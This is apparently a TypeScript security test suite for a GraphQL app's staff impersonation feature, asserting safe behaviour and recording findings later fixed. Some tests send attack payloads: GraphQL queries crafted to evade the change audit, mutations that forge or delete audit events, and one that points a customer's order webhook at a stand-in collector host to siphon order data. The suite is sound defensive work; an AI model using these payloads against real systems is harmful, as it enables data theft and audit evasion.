// Attacks on impersonation (API.md §10): an impersonation token tries to slip its changes past the
// IMPERSONATED_CHANGE audit, to move another user's address into the customer's book, to survive the
// customer's promotion to staff or its staff member's deletion, to outlive 15 minutes, and to be
// turned into a longer-lived credential. Each test asserts the SAFE behaviour; "HELD" marks what
// held, "FINDING:" what did not.
import '../helpers/env'
import { after, before, test } from 'node:test'
import assert from 'node:assert/strict'
import { randomBytes } from 'node:crypto'
import { startServer, type TestServer } from '../helpers/server'
import { tokenFor } from '../helpers/actors'
import { makeAddress, makeCustomer, makeStaff } from '../helpers/factories'
import {
  auditedFields,
  claimsOf,
  credentialState,
  impersonate,
  supportAndCustomer,
  IMPERSONATE,
  ME_AS,
} from '../api/impersonation/impersonationClient'

let server: TestServer

before(async () => {
  server = await startServer()
})
after(async () => {
  await server?.stop()
})

const word = (prefix: string) => `${prefix}${randomBytes(4).toString('hex')}`

async function impersonated() {
  const { customer, staff, staffToken } = await supportAndCustomer(server.context)
  const token = await impersonate(server, staffToken, customer.id)
  return { customer, staff, staffToken, token }
}

async function firstNameOf(id: string): Promise<string> {
  return (await server.context.prisma.user.findUniqueOrThrow({ where: { id } })).firstName
}

// HELD expected: a change made under impersonation is always on the customer's record, even when the
// root field is included through a directive whose variable takes its operation-declared default (the
// audit plugin reads the request's raw variables, which lack defaults).
for (const [name, query] of [
  [
    '@include with a defaulted variable',
    'mutation($go: Boolean = true, $n: String!) { accountUpdate(input: { firstName: $n }) @include(if: $go) { errors { code } } }',
  ],
  [
    '@skip with a defaulted variable',
    'mutation($stay: Boolean = false, $n: String!) { accountUpdate(input: { firstName: $n }) @skip(if: $stay) { errors { code } } }',
  ],
  [
    'a fragment spread with a defaulted @include',
    'mutation($go: Boolean = true, $n: String!) { ...F @include(if: $go) } fragment F on Mutation { accountUpdate(input: { firstName: $n }) { errors { code } } }',
  ],
  [
    'operationName choosing the second operation',
    'mutation A { __typename } mutation B($n: String!) { accountUpdate(input: { firstName: $n }) { errors { code } } }',
  ],
] as const) {
  test(`under impersonation, a change through ${name} is audited or not made`, async () => {
    // given
    const { customer, staff, token } = await impersonated()
    const newName = word('Mallory')
    // when
    const body = JSON.stringify({
      query,
      variables: { n: newName },
      ...(name.startsWith('operationName') ? { operationName: 'B' } : {}),
    })
    const res = await fetch(`${server.url}/api/graphql`, {
      method: 'POST',
      headers: { 'content-type': 'application/json', authorization: `Bearer ${token}` },
      body,
    })
    await res.text()
    // then
    const changed = (await firstNameOf(customer.id)) === newName
    const audited = (await auditedFields(server.context, customer.id)).some(f => f[0] === 'accountUpdate')
    assert.ok(
      !changed || audited,
      `changed=${changed} audited=${audited}: a change made under impersonation left no IMPERSONATED_CHANGE row`,
    )
    if (changed) {
      const events = await server.context.prisma.accountEvent.findMany({
        where: { userId: customer.id, type: 'IMPERSONATED_CHANGE' },
      })
      assert.ok(events.every(e => e.actorId === staff.id))
    }
  })
}

// HELD expected: a nested relationship write under impersonation cannot pull another user's address
// into the customer's book (the generated updateUser, connect and set, and the default address).
for (const [name, data] of [
  ['addresses.connect', (id: string) => ({ addresses: { connect: [{ id }] } })],
  ['addresses.set', (id: string) => ({ addresses: { set: [{ id }] } })],
  ['defaultShippingAddress.connect', (id: string) => ({ defaultShippingAddress: { connect: { id } } })],
] as const) {
  test(`under impersonation, updateUser ${name} with another user's address moves nothing`, async () => {
    // given
    const { customer, token } = await impersonated()
    const other = await makeCustomer(server.context)
    const theirs = await makeAddress(server.context, other.id, { streetAddress1: word('Other street ') })
    // when
    await server.gql(
      'mutation($id: ID!, $data: UserUpdateInput!) { updateUser(where: { id: $id }, data: $data) { id } }',
      { id: customer.id, data: data(theirs.id) },
      { token },
    )
    // then
    const row = await server.context.prisma.address.findUniqueOrThrow({ where: { id: theirs.id } })
    assert.equal(row.userId, other.id, 'the other user keeps its address')
    const me = await server.context.prisma.user.findUniqueOrThrow({ where: { id: customer.id } })
    assert.notEqual(me.defaultShippingAddressId, theirs.id)
  })
}

// HELD expected: a customer promoted to staff while an impersonation of it runs does not hand the
// impersonating staff member a staff session of it.
test('an impersonation token dies when its customer is promoted to staff', async () => {
  // given
  const { customer, token } = await impersonated()
  const manager = await makeStaff(server.context, ['MANAGE_STAFF', 'MANAGE_USERS'], { isSuperuser: true })
  const managerToken = await tokenFor(server.context, manager.id)
  // when
  const promoted = await server.gql(
    'mutation($id: ID!) { updateUser(where: { id: $id }, data: { isStaff: true }) { id isStaff } }',
    { id: customer.id },
    { token: managerToken },
  )
  assert.equal(promoted.body.data?.updateUser?.isStaff, true, JSON.stringify(promoted.body))
  // then
  const res = await server.gql('{ me { id isStaff userPermissions { code } } }', {}, { token })
  assert.notEqual(res.body.data?.me?.id, customer.id, JSON.stringify(res.body))
})

// HELD expected: deleting the staff member ends its impersonations.
test('an impersonation token dies when its staff member is deleted', async () => {
  // given
  const { customer, staff, token } = await impersonated()
  // when
  const superuser = await makeStaff(server.context, [], { isSuperuser: true })
  const deleted = await server.gql(
    'mutation($id: ID!) { deleteUser(where: { id: $id }) { id } }',
    { id: staff.id },
    { token: await tokenFor(server.context, superuser.id, ['pwd', 'mfa']) },
  )
  assert.equal(deleted.body.data?.deleteUser?.id, staff.id, JSON.stringify(deleted.body))
  // then
  const res = await server.gql(ME_AS, {}, { token })
  assert.notEqual(res.body.data?.me?.id, customer.id, JSON.stringify(res.body))
})

// HELD expected: an impersonation lasts 15 minutes at most, its session row too, and carries no refresh.
test('an impersonation token is good for 15 minutes at most, its session too', async () => {
  const { token } = await impersonated()
  const claims = claimsOf(token)
  assert.ok(claims.exp - claims.iat <= 900, `exp - iat = ${claims.exp - claims.iat}`)
  const row = await server.context.prisma.authSession.findUniqueOrThrow({ where: { id: claims.sid } })
  assert.ok(row.expiresAt && row.expiresAt.getTime() <= claims.iat * 1000 + 900_000 + 5_000, String(row.expiresAt))
  // an access token is not a refresh token, in either vocabulary
  const refreshed = await server.gql(
    'mutation($t: String!) { tokenRefresh(refreshToken: $t) { token errors { code } } }',
    { t: token },
  )
  assert.equal(refreshed.body.data?.tokenRefresh?.token ?? null, null, JSON.stringify(refreshed.body))
})

// HELD expected: the imp token cannot become an Admin UI session (a cookie holding it is no credential)
test('an impersonation token in a cookie is no session', async () => {
  const { token } = await impersonated()
  for (const cookie of [`keystonejs-session=${token}`, `token=${token}`, `accessToken=${token}`]) {
    const res = await server.gql('{ authenticatedItem { ... on User { id } } }', {}, { cookie })
    assert.equal(res.body.data?.authenticatedItem ?? null, null, `${cookie.split('=')[0]}: ${JSON.stringify(res.body)}`)
  }
})

// HELD expected: two userImpersonate under aliases in one operation, of a staff member and a superuser:
// neither gives a token.
test('aliased userImpersonate of a staff member and a superuser gives no token', async () => {
  const { staffToken } = await supportAndCustomer(server.context)
  const target = await makeStaff(server.context, [])
  const superuser = await makeStaff(server.context, [], { isSuperuser: true })
  const res = await server.gql(
    'mutation($a: ID!, $b: ID!) { a: userImpersonate(id: $a, reason: "x") { token errors { code } } b: userImpersonate(id: $b, reason: "x") { token errors { code } } }',
    { a: target.id, b: superuser.id },
    { token: staffToken },
  )
  assert.equal(res.body.data?.a?.token ?? null, null, JSON.stringify(res.body))
  assert.equal(res.body.data?.b?.token ?? null, null, JSON.stringify(res.body))
})

// HELD expected: a customer API token (or a customer) cannot impersonate; an impersonation cannot chain.
test('a customer cannot impersonate another customer', async () => {
  const customer = await makeCustomer(server.context)
  const other = await makeCustomer(server.context)
  const res = await server.gql(
    IMPERSONATE,
    { id: other.id, reason: 'x' },
    { token: await tokenFor(server.context, customer.id) },
  )
  assert.equal(res.body.data?.userImpersonate?.token ?? null, null, JSON.stringify(res.body))
})

// HELD expected: under impersonation, name changes through each path are events with the staff actor.
test('under impersonation, name changes through every path name the staff member', async () => {
  const { customer, staff, token } = await impersonated()
  const paths = [
    ['accountUpdate', 'mutation { accountUpdate(input: { firstName: "Ann" }) { errors { code } } }'],
    ['updateActiveUser', 'mutation { updateActiveUser(data: { name: "Bea Bee" }) { id } }'],
    ['updateUser', `mutation { updateUser(where: { id: "${customer.id}" }, data: { firstName: "Cleo" }) { id } }`],
  ]
  for (const [, query] of paths) await server.gql(query!, {}, { token })
  const events = await server.context.prisma.accountEvent.findMany({
    where: { userId: customer.id, type: { notIn: ['IMPERSONATED_CHANGE', 'IMPERSONATION_STARTED'] } },
  })
  assert.ok(events.length > 0, 'the changes were recorded')
  assert.deepEqual(
    events.filter(e => e.actorId !== staff.id).map(e => [e.type, e.actorId]),
    [],
    'every event names the staff member',
  )
  void credentialState
})

// HELD expected: the list actions on oneself (sign out everywhere, reset the second factor,
// deactivate, send a reset link) are credential and existence changes: refused under impersonation.
for (const action of ['signOutEverywhereUser', 'resetSecondFactorUser', 'deactivateUser', 'sendPasswordResetUser']) {
  test(`under impersonation, ${action} on oneself is refused and changes nothing`, async () => {
    const { customer, token } = await impersonated()
    const own = await tokenFor(server.context, customer.id)
    const before = await credentialState(server.context, customer.id)
    const res = await server.gql(
      `mutation($id: ID!) { ${action}(where: { id: $id }) { id } }`,
      { id: customer.id },
      { token },
    )
    assert.equal(res.body.data?.[action] ?? null, null, JSON.stringify(res.body))
    const now = await credentialState(server.context, customer.id)
    assert.deepEqual({ ...now, events: 0 }, { ...before, events: 0 })
    assert.equal(
      (await server.gql(ME_AS, {}, { token: own })).body.data?.me?.id,
      customer.id,
      'the customer stays signed in',
    )
  })
}

// FOUND, then fixed: (medium, persistence / exfiltration beyond the impersonation) an impersonation may set
// the customer's orderWebhookUrl through updateActiveUser (and the generated updateUser): the URL
// outlives the 15-minute token, and every later order event of the customer is posted wherever
// the staff member chose. Responsible: mutations/activeUser/updateActiveUser.ts and the
// orderWebhookUrl field of lists/User.ts take no account of an impersonation; suggested fix: a
// field-level update rule on orderWebhookUrl refusing an impersonation session (refuseImpersonation
// / isImpersonation), so every path, both vocabularies and the generated API, is covered at once.
// An order webhook URL set under impersonation outlives the 15 minutes: every order event of the
// customer goes on to wherever the staff member pointed it, a standing copy of the customer's data
// that IMPERSONATE_USER alone (no MANAGE_USERS, no export) was never meant to give.
for (const [path, query] of [
  [
    'updateActiveUser',
    'mutation { updateActiveUser(data: { orderWebhookUrl: "https://collector.example.net/orders" }) { id } }',
  ],
  [
    'updateUser',
    'mutation($id: ID!) { updateUser(where: { id: $id }, data: { orderWebhookUrl: "https://collector.example.net/orders" }) { id } }',
  ],
] as const) {
  test(`under impersonation, ${path} cannot point the customer's order webhook URL elsewhere`, async () => {
    // given
    const { customer, token } = await impersonated()
    const before = (await server.context.prisma.user.findUniqueOrThrow({ where: { id: customer.id } })).orderWebhookUrl
    // when
    const res = await server.gql(query, { id: customer.id }, { token })
    // then
    const after = (await server.context.prisma.user.findUniqueOrThrow({ where: { id: customer.id } })).orderWebhookUrl
    assert.equal(after, before, JSON.stringify(res.body))
  })
}

// FOUND, then fixed: (low, information disclosure) under impersonation `me { sessions }` lists every session
// of the customer with its IP and user agent, so IMPERSONATE_USER alone reads what MANAGE_USERS
// guards. Responsible: services/accounts/sessions.ts (the sessions field's reader) does not look at
// isImpersonation; suggested fix there: in an impersonation list the current session only (or
// blank ip/userAgent of the others).
// Under impersonation, `me { sessions }` shows staff the customer's other sessions: their IP
// addresses and browsers, which a support member holding IMPERSONATE_USER only (no MANAGE_USERS)
// could not read otherwise.
test("under impersonation, me.sessions does not show the customer's other sessions' IPs and browsers", async () => {
  const { customer, staffToken } = await supportAndCustomer(server.context)
  const ua = word('Mozilla/5.0 HomeLaptop-')
  const signedIn = await server.gql(
    'mutation($e: String!, $p: String!) { tokenCreate(email: $e, password: $p) { token errors { code } } }',
    { e: customer.email, p: 'correct horse battery staple' },
    { headers: { 'user-agent': ua } },
  )
  assert.ok(signedIn.body.data?.tokenCreate?.token, JSON.stringify(signedIn.body))
  const token = await impersonate(server, staffToken, customer.id)
  const res = await server.gql('{ me { sessions { id ip userAgent current } } }', {}, { token })
  assert.ok(!JSON.stringify(res.body).includes(ua), JSON.stringify(res.body).slice(0, 600))
})

// HELD expected: a mutation sent by GET, or in an HTTP batch, under impersonation is refused or audited.
test('under impersonation, a mutation by GET or in a batch is refused or audited', async () => {
  const { customer, token } = await impersonated()
  const name = word('Getter')
  const query = `mutation { accountUpdate(input: { firstName: "${name}" }) { errors { code } } }`
  const headers = { authorization: `Bearer ${token}`, 'apollo-require-preflight': 'true' }
  await (await fetch(`${server.url}/api/graphql?query=${encodeURIComponent(query)}`, { headers })).text()
  const batchName = word('Batcher')
  const batch = [{ query: `mutation { accountUpdate(input: { firstName: "${batchName}" }) { errors { code } } }` }]
  await (
    await fetch(`${server.url}/api/graphql`, {
      method: 'POST',
      headers: { ...headers, 'content-type': 'application/json' },
      body: JSON.stringify(batch),
    })
  ).text()
  const now = await firstNameOf(customer.id)
  const audited = (await auditedFields(server.context, customer.id)).filter(f => f[0] === 'accountUpdate')
  assert.ok(![name, batchName].includes(now) || audited.length > 0, `name ${now}, audited ${JSON.stringify(audited)}`)
})

// FOUND, then fixed: (medium, session revocation bypass) an impersonation outlives the staff session that
// started it: after the staff member's tokensDeactivateAll (its token key rotated) or
// sessionsRevokeOthers, the impersonation token it minted still works for up to 15 minutes, so a
// thief of a staff session keeps customer access past the revocation meant to cut it off.
// Responsible: services/identity/sessions.ts: impersonatorMayAct checks the staff member's
// permission only, not that the staff session that started the impersonation is alive. Suggested
// fix there: keep the starting staff session's id with the impersonation (services/identity/tokens.ts
// impersonatedBy) and require that session alive (isSessionAlive) in impersonatorMayAct.
// An impersonation started from a staff session that is then ended (the staff member signs out
// everywhere, say because that session was stolen) should end with it: otherwise a thief of a
// staff session mints customer tokens that outlive the revocation.
for (const [how, query] of [
  ['tokensDeactivateAll', 'mutation { tokensDeactivateAll { errors { code } } }'],
  ['sessionsRevokeOthers', 'mutation { sessionsRevokeOthers { count errors { code } } }'],
] as const) {
  test(`an impersonation ends when its staff member's sessions are ended by ${how}`, async () => {
    // given an impersonation started from a staff session
    const { customer, staff, token } = await impersonated()
    const other = await tokenFor(server.context, staff.id)
    // when the staff member ends its sessions (the one that started the impersonation among them)
    const ended = await server.gql(query, {}, { token: other })
    assert.deepEqual(
      Object.values(ended.body.data ?? {})[0] && (Object.values(ended.body.data)[0] as any).errors,
      [],
      JSON.stringify(ended.body),
    )
    // then
    const res = await server.gql(ME_AS, {}, { token })
    assert.notEqual(res.body.data?.me?.id, customer.id, JSON.stringify(res.body))
  })
}

// HELD expected: the generated Address API under impersonation cannot put an address in another
// user's book, nor hand the customer's own address to another user.
test('under impersonation, createAddress and updateAddress cannot reach another user', async () => {
  const { customer, token } = await impersonated()
  const other = await makeCustomer(server.context)
  const mine = await makeAddress(server.context, customer.id)
  await server.gql(
    'mutation($u: ID!) { createAddress(data: { user: { connect: { id: $u } }, firstName: "X", lastName: "Y", streetAddress1: "9 Planted St", city: "Springfield", postalCode: "62701", countryArea: "IL", country: "US" }) { id } }',
    { u: other.id },
    { token },
  )
  await server.gql(
    'mutation($a: ID!, $u: ID!) { updateAddress(where: { id: $a }, data: { user: { connect: { id: $u } } }) { id } }',
    { a: mine.id, u: other.id },
    { token },
  )
  const theirs = await server.context.prisma.address.findMany({ where: { userId: other.id } })
  assert.deepEqual(theirs, [], 'no address reached the other user')
})

// HELD expected: the record of the impersonation cannot be erased or forged from inside it.
test('under impersonation, the account events cannot be deleted, changed or forged', async () => {
  const { customer, staff, token } = await impersonated()
  const started = await server.context.prisma.accountEvent.findFirstOrThrow({
    where: { userId: customer.id, type: 'IMPERSONATION_STARTED' },
  })
  await server.gql(
    'mutation($id: ID!) { deleteAccountEvent(where: { id: $id }) { id } }',
    { id: started.id },
    { token },
  )
  await server.gql(
    'mutation($id: ID!) { deleteAccountEvents(where: [{ id: $id }]) { id } }',
    { id: started.id },
    { token },
  )
  await server.gql(
    'mutation($id: ID!) { updateAccountEvent(where: { id: $id }, data: { type: "NOTE_ADDED" }) { id } }',
    { id: started.id },
    { token },
  )
  await server.gql(
    'mutation($u: ID!) { createAccountEvent(data: { type: "IMPERSONATION_STARTED", user: { connect: { id: $u } } }) { id } }',
    { u: customer.id },
    { token },
  )
  const now = await server.context.prisma.accountEvent.findUnique({ where: { id: started.id } })
  assert.equal(now?.type, 'IMPERSONATION_STARTED')
  assert.equal(now?.actorId, staff.id)
  assert.equal(
    await server.context.prisma.accountEvent.count({ where: { userId: customer.id, type: 'IMPERSONATION_STARTED' } }),
    1,
  )
})
